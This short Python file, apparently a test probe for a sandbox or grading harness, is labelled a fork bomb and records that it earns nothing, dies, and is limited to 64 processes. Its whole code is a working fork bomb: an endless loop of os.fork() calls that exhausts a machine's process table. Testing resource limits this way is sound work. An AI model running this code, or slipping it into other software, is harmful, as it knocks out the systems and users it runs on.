"""A fork bomb.

earns: nothing
finds: died
report: 64 processes and threads at a time
"""
# %% first cell
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
